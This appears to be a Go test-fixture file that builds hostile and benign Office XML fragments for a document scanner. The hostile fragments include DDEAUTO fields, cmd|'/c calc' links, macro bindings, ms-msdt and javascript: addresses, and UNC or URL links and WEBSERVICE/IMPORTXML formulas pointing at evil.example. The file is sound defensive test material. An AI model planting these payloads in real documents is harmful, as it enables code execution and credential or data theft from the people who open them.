package xmltest

import (
	"slices"
	"strings"
)

const (
	drawingML      = `xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" `
	ofRelations    = `xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" `
	ofSheetDrawing = `xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" `
	ofSlides       = `xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" `
)

// fieldMark returns a mark of a field.
func fieldMark(kind string) string { return `<w:r><w:fldChar w:fldCharType="` + kind + `"/></w:r>` }

// clientData returns what VML says of a control.
func clientData(content string) string {
	return `<xml xmlns:x="urn:schemas-microsoft-com:office:excel"><x:ClientData ObjectType="Button">` + content +
		`</x:ClientData></xml>`
}

// worksheet returns a table without rows.
func worksheet(content string) string {
	return `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ` +
		`` + ofRelations + `>` + content +
		`</worksheet>`
}

// hostileOfficeNames has parts that fetch or run by names that stand elsewhere than in a
// relationship: in the text of a field, in a formula, in an attribute of a shape.
func hostileOfficeNames() []recipe {
	const begin, separate, end = "begin", "separate", "end"
	list := []recipe{
		part(officeExternal, "field-in-text", word(fieldMark(begin)+`<w:r><w:t>DDEAUTO cmd</w:t></w:r>`+
			fieldMark(separate)+fieldMark(end))),
		part(officeExternal, "field-in-text-and-instruction", word(fieldMark(begin)+`<w:r><w:t>D</w:t></w:r><w:r>`+
			`<w:instrText>DE cmd</w:instrText></w:r>`+fieldMark(end))),
		part(officeExternal, "field-in-deleted-text", word(fieldMark(begin)+`<w:del><w:r><w:delText>DDE `+
			`x</w:delText></w:r>`+
			`</w:del>`+fieldMark(end))),
		part(officeExternal, "field-in-result-of-field", word(fieldMark(begin)+fieldMark(begin)+fieldMark(separate)+
			`<w:r><w:t>DDE x</w:t></w:r>`+fieldMark(end)+fieldMark(separate)+fieldMark(end))),

		part(officeExternal, "linked-image", `<a:blip `+drawingML+ofRelations+`r:link="rId1"/>`),
		part(officeExternal, "linked-and-embedded-image", `<a:blip `+drawingML+ofRelations+`r:embed="rId2" `+
			`r:link="rId1"/>`),
		part(officeExternal, "linked-drawing", `<s:svgBlip `+
			`xmlns:s="http://schemas.microsoft.com/office/drawing/2016/SVG/main" `+
			ofRelations+`r:link="rId1"/>`),
		part(officeExternal, "linked-image-of-vml", `<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" `+
			``+ofRelations+
			`r:href="rId1"/>`),
		part(officeExternal, "image-of-a-cell", `<w:webImagesSrd `+
			`xmlns:w="http://schemas.microsoft.com/office/spreadsheetml/`+
			`2020/richdatawebimage" `+ofRelations+`><w:webImageSrd><w:address `+
			`r:id="rId1"/></w:webImageSrd></w:webImagesSrd>`),
		part(officeExternal, "linked-object-of-a-slide", `<p:oleObj `+ofSlides+ofRelations+
			`r:id="rId1"><p:link updateAutomatic="1"/></p:oleObj>`),
		part(officeExternal, "linked-object-of-a-sheet", worksheet(`<oleObjects><oleObject progId="Package" `+
			`link="[1]!''" `+
			`oleUpdate="OLEUPDATE_ALWAYS"/></oleObjects>`)),
		part(officeExternal, "linked-object-of-a-text", word(`<w:objectLink xmlns:r="urn:r" r:id="rId1"/>`)),
		part(officeExternal, "pointer-over-shape", `<a:hlinkMouseOver `+drawingML+ofRelations+`r:id="rId1"/>`),
		part(officeExternal, "pointer-over-text", `<a:hlinkHover `+drawingML+ofRelations+`r:id="rId1" action=" "/>`),
		part(officeExternal, "link-that-was-invalid", `<a:hlinkClick `+drawingML+ofRelations+`r:id="" `+
			`invalidUrl="file://evil.example/x"/>`),
		part(officeExternal, "base-of-links", `<Properties `+
			`xmlns="http://schemas.openxmlformats.org/officeDocument/2006/`+
			`extended-properties"><HyperlinkBase>\\evil.example\share</HyperlinkBase></Properties>`),
		part(officeExternal, "place-of-a-link", worksheet(`<hyperlinks><hyperlink ref="A1" `+
			`location="'\\evil.example\[b.xlsx]S'!A1"/></hyperlinks>`)),

		part(officeExternal, "cube-query", connectionWith(`<olapPr local="1" localConnection="Data `+
			`Source=\\evil.example\x"/>`)),
		part(officeExternal, "model-query", connectionWith(`<extLst><ext uri="x"><x:connection xmlns:x="urn:x" `+
			`id="a">`+
			`<x:oledbPr connection="Provider=x"/></x:connection></ext></extLst>`)),
		part(officeExternal, "data-feed", connectionWith(`<extLst><ext uri="x"><x:connection xmlns:x="urn:x" id="a">`+
			`<x:dataFeedPr connection="Data Source=http://evil.example/"/></x:connection></ext></extLst>`)),
		part(officeExternal, "power-query", `<DataMashup `+
			`xmlns="http://schemas.microsoft.com/DataMashup">AAAAAA==</DataMashup>`),
		part(officeExternal, "map-schema", `<MapInfo `+
			`xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><Schema `+
			`ID="s" SchemaRef="\\evil.example\x.xsd"/></MapInfo>`),
		part(officeExternal, "map-file", `<MapInfo `+
			`xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><Map><DataBinding `+
			`FileBinding="true" FileBindingName="http://evil.example/x.xml"/></Map></MapInfo>`),
		part(officeExternal, "mail-merge-link-file", settings(`<w:mailMerge><w:odso><w:udl w:val="Data `+
			`Source=\\evil.example\x"/>`+
			`</w:odso></w:mailMerge>`)),
		part(officeExternal, "stylesheet-on-saving", settings(`<w:saveThroughXslt xmlns:r="urn:r" r:id="rId1"/>`)),

		part(officeExternal, "columns-by-a-second-name", cellOfText(`<w:gridSpan val="1" w:val="2147483647"/>`)),
		part(active, "field-control", word(fieldOf(` CONTROL Forms.HTML:Image.1 \s `))),
		part(active, "field-button", word(fieldOf(` MACROBUTTON Evil click here `))),
		part(active, "macro-of-a-shape", `<xdr:sp `+ofSheetDrawing+`macro="[0]!Evil" textlink=""/>`),
		part(active, "macro-of-another-book", `<xdr:pic `+ofSheetDrawing+`macro="'\\evil.example\x.xlsm'!Go"/>`),
		part(active, "macro-of-a-control", worksheet(`<controls><control shapeId="1" r:id="r1"><controlPr `+
			`macro="[0]!x"/>`+
			`</control></controls>`)),
		part(active, "macro-of-a-form", `<formControlPr `+
			`xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" `+
			`objectType="Button" fmlaMacro="Evil"/>`),
		part(active, "macro-of-vml", clientData(`<x:FmlaMacro>[0]!E<![CDATA[vil]]></x:FmlaMacro>`)),
		part(active, "macro-of-the-ribbon", `<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" `+
			`onLoad="Evil"><ribbon/></customUI>`),
		part(active, "callback-of-the-ribbon", `<customUI `+
			`xmlns="http://schemas.microsoft.com/office/2009/07/customui">`+
			`<ribbon><button id="b" getLabel="Evil"/></ribbon></customUI>`),
		part(active, "object-opened-by-animation", `<p:cmd `+ofSlides+`type="verb" cmd="0"/>`),
		part(active, "name-of-xlm", `<workbook `+
			`xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames>`+
			`<definedName name="x" xlm="1">1</definedName></definedNames></workbook>`),
		part(active, "name-of-vba", `<workbook `+
			`xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames>`+
			`<definedName name="x" function="true" vbProcedure="true">1</definedName></definedNames></workbook>`),
		part(active, "dialog-type", `<Types `+
			`xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override `+
			`PartName="/x" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.dialogsheet+xml"/></Types>`),

		part(schemaImport, "schema-of-a-library", contentType("http://evil.example/schemas/xmls/qdc/2003/04/02/dc.xsd")),
		part(schemaImport, "schema-of-dublin-core-by-tls", contentType(
			"https://dublincore.org/schemas/xmls/qdc/2003/04/02/dc.xsd")),
		part(schemaImport, "schema-of-dublin-core-and-more", contentType(
			"http://dublincore.org/schemas/xmls/qdc/2003/04/02/dc.xsd/../../../../../x")),
		text(schemaImport, "schema-of-dublin-core", contentType("http://dublincore.org/schemas/xmls/qdc/2003/04/02/dc.xsd")),
	}
	for name, address := range hostileAddresses() {
		list = append(list,
			part(officeExternal, "field-hyperlink-to-"+name, word(fieldOf(` HYPERLINK \o "a tip" "`+address+`" `))),
			part(officeExternal, "formula-hyperlink-to-"+name, sheet(`IF(1,HYPERLINK( "`+address+`"&amp;A1,"x"))`)))
	}
	for name, formula := range map[string]string{
		"with-an-element-after": `WEBSERVICE("x")<f/>`, "with-an-element-inside": `WEB<a>x</a>SERVICE("x")`,
		"with-an-element-before": `<f>x</f>WEBSERVICE("x")`, "with-another-inside": `WEBSERVICE("x")<a>1</a>`,
		"prefix-twice": `_xlfn._xlfn.WEBSERVICE("x")`, "prefix-of-users": `_xludf.WEBSERVICE("x")`,
		"no-break-space": "WEBSERVICE\u00a0(\"x\")", "stocks": `_xlfn.STOCKHISTORY("MSFT",1)`,
		"script-in-the-cloud": `_xlfn._xlws.PY(0,0)`, "assistant": `COPILOT("x",A1)`,
		"translation":     `_xlfn.TRANSLATE("x","en","fr")`,
		"kept-twice":      `DUMMYFUNCTION("DUMMYFUNCTION(""WEBSERVICE(1)"")")`,
		"kept-in-part":    `DUMMYFUNCTION(A1)+DUMMYFUNCTION("WEBSERVICE(1)`,
		"kept-by-google":  `IFERROR(__xludf.DUMMYFUNCTION("IMPORTXML(""http://evil.example/"",""//a"")"),1)`,
		"after-hyperlink": `HYPERLINK("https://example.org/",WEBSERVICE("x"))`,
	} {
		list = append(list, part(officeExternal, "formula-"+name, sheet(formula)))
	}
	for name, content := range map[string]string{
		"textlink":   `<xdr:sp ` + ofSheetDrawing + `macro="" textlink="cmd|'/c calc'!A0"/>`,
		"fmlaLink":   `<formControlPr fmlaLink="cmd|'/c calc'!A0"/>`,
		"linkedCell": worksheet(`<controlPr linkedCell="'\\evil.example\[b]S'!A1"/>`),
		"FmlaPict":   clientData(`<x:FmlaPict>cmd|'/c calc'!A0</x:FmlaPict>`),
	} {
		list = append(list, part(officeExternal, "formula-in-"+name, content))
	}
	for name, content := range map[string]string{
		"hyperlink":  `<hyperlinks><hyperlink ref="A1:A1048577" location="B1"/></hyperlinks>`,
		"selection":  `<sheetViews><sheetView><selection activeCell="A1" sqref="A1 XFE1"/></sheetView></sheetViews>`,
		"view":       `<sheetViews><sheetView topLeftCell="A2147483648"/></sheetViews>`,
		"filter":     `<autoFilter ref="A1:A9999999"/>`,
		"format":     `<conditionalFormatting sqref="A1:ZZZ1"/>`,
		"validation": `<dataValidations><dataValidation sqref="A:B 1:1048577"/></dataValidations>`,
		"table":      `<table ref="A1:XFE2"/>`, "comment": `<comment ref="A0"/>`,
	} {
		list = append(list, part(officeBounds, "range-of-"+name, worksheet(content)))
	}
	for name, content := range map[string]string{
		"columns-of-a-cell":          cellOfText(`<w:gridSpan w:val="2147483647"/>`),
		"columns-before-a-row":       word(`<w:tbl><w:tr><w:trPr><w:gridBefore w:val="100000"/></w:trPr></w:tr></w:tbl>`),
		"columns-of-a-cell-negative": cellOfText(`<w:gridSpan w:val="-1"/>`),
		"columns-of-a-slide":         `<a:tc ` + drawingML + `gridSpan="1000000"/>`,
		"rows-of-a-slide":            `<a:tc ` + drawingML + `rowSpan="2147483647" gridSpan="2"/>`,
		"points-of-a-chart":          chartCache(`<c:ptCount val="4294967295"/>`),
		"column-of-a-drawing": `<xdr:wsDr ` + ofSheetDrawing + `><xdr:from><xdr:col>16384</xdr:col></xdr:from>` +
			`</xdr:wsDr>`,
		"row-of-a-drawing":      `<xdr:wsDr ` + ofSheetDrawing + `><xdr:to><xdr:row>-1</xdr:row></xdr:to></xdr:wsDr>`,
		"row-of-a-comment":      clientData(`<x:Row>2147483<!-- -->647</x:Row>`),
		"column-of-a-comment":   clientData(`<x:Row>0</x:Row><x:Column>99999</x:Column>`),
		"range-of-an-extension": worksheet(rangeOfExtension("A1:A9999999")),
	} {
		list = append(list, part(officeBounds, name, content))
	}
	return sorted(list)
}

// hostileAddresses returns where a hyperlink may not lead.
func hostileAddresses() map[string]string {
	return map[string]string{
		"file": "file:///c:/x", "share": `\\evil.example\x`, "drive": `C:\x`, "protocol": "ms-msdt:/id x",
		"script": "javascript:x", "root": "/etc/passwd", "escaped-share": "%5c%5cevil.example/x",
		"book": `[\\evil.example\b]S!A1`,
	}
}

// connectionWith returns a list with one connection.
func connectionWith(content string) string {
	return `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" ` +
		`name="n">` +
		content + `</connection></connections>`
}

// contentType returns a content type of SharePoint, with two attributes of one name as it writes
// them.
func contentType(schema string) string {
	return `<ct:contentTypeSchema xmlns:ct="http://schemas.microsoft.com/office/2006/metadata/contentType">` +
		`<xsd:schema xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:ns2="urn:x" xmlns:ns3="urn:y" ns2:_="" ` +
		`ns3:_="">` +
		`<xsd:import namespace="http://purl.org/dc/elements/1.1/" schemaLocation="` + schema + `"/></xsd:schema>` +
		`</ct:contentTypeSchema>`
}

// cellOfText returns a table with one cell that has a property.
func cellOfText(property string) string {
	return word(`<w:tbl><w:tr><w:tc><w:tcPr>` + property + `</w:tcPr><w:p/></w:tc></w:tr></w:tbl>`)
}

// chartCache returns a chart with the numbers that it shows.
func chartCache(numbers string) string {
	return `<c:numCache xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart">` + numbers + `</c:numCache>`
}

// rangeOfExtension returns a range as younger versions of the format write it.
func rangeOfExtension(cells string) string {
	return `<extLst><ext><xm:sqref xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">` + cells +
		`</xm:sqref></ext></extLst>`
}

// benignOfficeNames comes close.
func benignOfficeNames() []recipe {
	return []recipe{
		part(officeExternal, "hyperlinks-in-fields", word(fieldOf(` HYPERLINK "https://example.org/a:b" \o `+
			`"C:\\x" \t "_blank" `)+
			fieldOf(` HYPERLINK \l "_Toc12345" `)+fieldOf(" HYPERLINK \u201cmailto:a@example.org\u201d ")+
			fieldOf(` HYPERLINK "manual.docx" \l "a:b" `)+fieldOf(` HYPERLINK `)+fieldOf(` HYPERLINK "#a:b" `))),
		part(officeExternal, "result-of-a-field", word(fieldMark("begin")+`<w:r><w:instrText>REF `+
			`x</w:instrText></w:r>`+
			fieldMark("separate")+`<w:r><w:t>DDE cmd</w:t></w:r>`+fieldMark("end")+`<w:r><w:t>LINK x</w:t></w:r>`)),
		part(officeExternal, "hyperlinks-in-formulas", sheet(`HYPERLINK("#'Sheet: `+
			`2'!A1","x")&amp;HYPERLINK("mailto:"&amp;A1)&amp;`+
			`HYPERLINK(B1&amp;"file:")&amp;HYPERLINK("book.xlsx")&amp;HYPERLINK("[book.xlsx]S!A1")&amp;HYPERLINK("S!A1:B2")`)),
		part(officeExternal, "formulas-of-google", sheet(`IFERROR(__xludf.DUMMYFUNCTION("SPLIT(A1,"",|"")"),"a")`+
			`&amp;DUMMYFUNCTION(A1)&amp;DUMMYFUNCTION("DUMMYFUNCTION(A1)")`)),
		part(officeExternal, "images-of-the-package", `<a:blip `+drawingML+ofRelations+`r:embed="rId2" r:link="" `+
			`cstate="print"/>`),
		part(officeExternal, "slide-under-the-pointer", `<a:hlinkHover `+drawingML+ofRelations+
			`r:id="rId3" action="ppaction://hlinksldjump"/>`),
		part(officeExternal, "chart-with-its-book", `<c:externalData `+
			`xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/`+
			`chart" `+ofRelations+`r:id="rId1"><c:autoUpdate val="0"/></c:externalData>`),
		part(officeExternal, "slides-saved-as-pages", `<p:webPr `+ofSlides+`allowPng="1"/>`),
		part(officeExternal, "base-of-links-on-a-drive", `<Properties `+
			`xmlns="http://schemas.openxmlformats.org/officeDocument/2006/`+
			`extended-properties"><HyperlinkBase>C:\</HyperlinkBase></Properties>`),
		part(officeExternal, "map", `<MapInfo xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" `+
			`SelectionNamespaces=""><Schema ID="s"/><Map ID="1" Name="m" RootElement="r" SchemaID="s"><DataBinding `+
			`FileBinding="true" `+
			`ConnectionID="1" DataBindingLoadMode="1"/></Map></MapInfo>`),
		part(schemaImport, "content-type-of-sharepoint",
			contentType("http://dublincore.org/schemas/xmls/qdc/2003/04/02/dc.xsd")),
		part(active, "button-that-shows-where-to-type", word(fieldOf(` MACROBUTTON NoMacro [Type here] `))),
		part(active, "numbered-equation-of-mathtype", word(fieldOf(` MACROBUTTON MTPlaceRef \* MERGEFORMAT (1.2)`)+
			fieldOf(` MACROBUTTON MTEditEquationSection2 Equation Section 1 `))),
		part(officeExternal, "hyperlink-that-leads-nowhere", relationships("hyperlink", "", "External")),
		part(officeExternal, "hyperlink-to-a-place", relationships("hyperlink", "#Sheet2!A1", "External")),
		part(officeExternal, "fraction", word(`<m:oMath `+
			`xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math">`+
			`<m:f><m:num><m:r><m:t>1</m:t></m:r></m:num><m:den><m:r><m:t>2</m:t></m:r></m:den></m:f></m:oMath>`)),
		part(officeExternal, "formula-of-an-extension", worksheet(`<extLst><ext><x14:formula1 xmlns:x14="urn:x14"> `+
			`<xm:f xmlns:xm="urn:xm">A1<!-- x -->+1</xm:f> </x14:formula1></ext></extLst>`)),
		part(officeBounds, "spans-and-points", cellOfText(`<w:gridSpan w:val="63"/>`)),
		part(officeBounds, "spans-of-slides", `<a:tr `+drawingML+`><a:tc gridSpan="2" rowSpan="75"/><a:tc `+
			`hMerge="1" rowSpan="0"/></a:tr>`),
		part(officeBounds, "points-shown-by-a-chart", chartCache(`<c:ptCount val="0"/><c:ptCount val="1048576"/>`)),
		part(officeBounds, "anchors", `<xdr:wsDr `+ofSheetDrawing+`><xdr:from><xdr:col>0</xdr:col><xdr:colOff>-9`+
			`</xdr:colOff><xdr:row> 00 </xdr:row></xdr:from><xdr:to><xdr:col>16383</xdr:col><xdr:row>1048575</xdr:row>`+
			`</xdr:to></xdr:wsDr>`),
		part(officeBounds, "anchor-of-a-comment", clientData(`<x:Row>1048575</x:Row><x:Column>0</x:Column>`)),
		part(officeBounds, "ranges-of-an-extension", worksheet(rangeOfExtension("A1:B2 C:C #REF!"))),
		part(officeBounds, "cells-that-were-deleted", worksheet(`<sheetViews><sheetView><selection activeCell="B2" `+
			`sqref="B2 #REF!"/></sheetView></sheetViews>`)),
		part(active, "shape-without-macro", `<xdr:sp `+ofSheetDrawing+`macro="" textlink="$A$1"/>`),
		part(active, "media-played-by-animation", `<p:cmd `+ofSlides+`type="call" cmd="playFrom(0.0)"/>`),
		part(active, "ribbon-without-callbacks", `<customUI `+
			`xmlns="http://schemas.microsoft.com/office/2006/01/customui"><ribbon>`+
			`<tabs><tab idMso="TabHome" visible="false"/></tabs></ribbon></customUI>`),
		part(officeBounds, "ranges", worksheet(`<sheetViews><sheetView topLeftCell="A2"><pane `+
			`topLeftCell="B2"/><selection `+
			`pane="bottomLeft" activeCell="A2" sqref="A2 C:C"/></sheetView></sheetViews><autoFilter ref="A1:C9"/>`+
			`<conditionalFormatting sqref="$A$1:$A$1048576 B1"/><hyperlinks><hyperlink ref="A1:B2" `+
			`location="Sheet2!A1:B2"/>`+
			`</hyperlinks><table ref="A1:B2"/>`)),
	}
}

// sorted puts recipes in the order of their names.
func sorted(list []recipe) []recipe {
	slices.SortFunc(list, func(a, b recipe) int { return strings.Compare(a.name, b.name) })
	return list
}
